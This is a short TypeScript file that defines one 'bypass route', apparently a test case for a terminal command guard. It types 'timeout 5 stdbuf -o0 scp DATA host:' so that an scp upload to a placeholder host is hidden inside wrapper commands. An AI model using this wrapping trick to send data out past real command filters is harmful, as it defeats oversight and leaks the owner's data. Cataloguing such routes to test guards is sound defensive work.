import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by stdbuf and timeout',
  source: 'thought of with the keys of the line editor',
  keys: ['timeout 5 stdbuf -o0 scp DATA host:\r'],
};
